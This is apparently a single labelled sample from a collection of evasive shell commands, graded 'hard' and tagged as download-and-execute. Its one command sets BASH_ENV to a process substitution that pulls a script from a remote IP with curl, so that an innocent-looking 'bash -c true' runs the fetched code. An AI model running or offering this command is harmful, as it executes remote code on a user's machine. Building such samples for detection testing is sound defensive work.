# evasion: BASH_ENV points at a process substitution that downloads code
# grade: hard; does: download-exec
BASH_ENV=<(curl -s http://203.0.113.5/s) bash -c 'true'
